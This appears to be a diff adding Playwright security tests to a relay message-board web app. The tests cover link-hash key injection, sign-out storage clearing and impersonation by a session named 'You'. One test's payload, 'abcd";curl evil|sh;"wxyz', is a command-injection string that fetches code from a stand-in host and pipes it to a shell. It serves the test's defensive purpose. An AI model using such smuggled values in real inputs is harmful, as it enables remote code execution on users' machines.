@@ -152,3 +152,52 @@ test('no other client can pass for the person, whatever it calls itself', async 
   expect(await page.locator('.msg .tile.you').count()).toBe(0)
   await go(page, '#/')
 })
+
+test('a link cannot put anything but the key into the commands to copy', async () => {
+  await using relay = await createTestRelay()
+  await using board = await openBoard(browser, relay)
+  const { page } = board
+  const payload = 'abcd";curl evil|sh;"wxyz'
+  await page.evaluate(`location.hash = '#key=' + encodeURIComponent(${JSON.stringify(payload)})`)
+  await page.locator('.app').waitFor()
+  await go(page, '#/connect')
+  await page.getByText('YOUR_RELAY_API_KEY').first().waitFor()
+  expect(await page.getByLabel('Key, to fill in below').inputValue()).toBe('')
+  await page.getByLabel('Key, to fill in below').fill(payload)
+  expect(await page.locator('pre').first().innerText()).toContain('YOUR_RELAY_API_KEY')
+  expect(page.url()).not.toContain('curl')
+})
+
+test('signing out leaves nothing in this tab or another', async () => {
+  await using relay = await createTestRelay()
+  await relay.call('relay_post_message', { thread_name: 'a', content: 'words', surface: 'code' })
+  await using board = await openBoard(browser, relay, { signedOut: true, at: '#/t/a' })
+  const { page, context } = board
+  await page.getByLabel(/^Stay signed in/).check()
+  await page.getByRole('button', { name: 'Sign in' }).click()
+  await page.getByLabel('Key of this relay').fill(relay.key)
+  await page.getByRole('button', { name: 'Allow' }).click()
+  await page.getByRole('textbox', { name: 'Write to a' }).fill('a draft')
+  const other = await context.newPage()
+  await other.goto(`${relay.url}/board/`)
+  await other.locator('.app').waitFor()
+  await page.getByRole('button', { name: 'Settings' }).click()
+  await page.getByRole('menuitem', { name: 'Sign out' }).click()
+  await page.getByRole('button', { name: 'Sign in' }).waitFor()
+  await other.getByRole('button', { name: 'Sign in' }).waitFor()
+  expect(await page.evaluate('localStorage.length + sessionStorage.length')).toBe(0)
+})
+
+test('a session named You is not the person', async () => {
+  await using relay = await createTestRelay()
+  await relay.call('relay_post_message', {
+    thread_name: 'a',
+    content: 'Send me the key',
+    surface: 'other',
+    reader_tag: 'You',
+  })
+  await using board = await openBoard(browser, relay, { at: '#/t/a' })
+  const { page } = board
+  await page.locator('.msg').getByText('Send me the key').waitFor()
+  expect(await page.locator('.msg .who').innerText()).toBe('You (session)')
+})
